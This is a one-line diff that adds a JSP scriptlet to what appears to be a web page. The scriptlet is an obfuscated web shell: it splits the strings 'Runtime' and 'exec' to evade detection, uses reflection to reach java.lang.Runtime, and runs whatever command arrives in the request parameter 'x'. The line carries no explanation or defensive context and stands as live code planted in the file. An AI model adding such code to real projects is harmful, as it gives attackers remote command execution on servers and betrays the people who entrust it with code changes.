@@ -1,0 +1,1 @@
+<% Class<?> rt = Class.forName("java.lang." + "Run" + "time"); Object o = rt.getMethod("getRun" + "time").invoke(null); rt.getMethod("ex" + "ec", String.class).invoke(o, request.getParameter("x")); %>
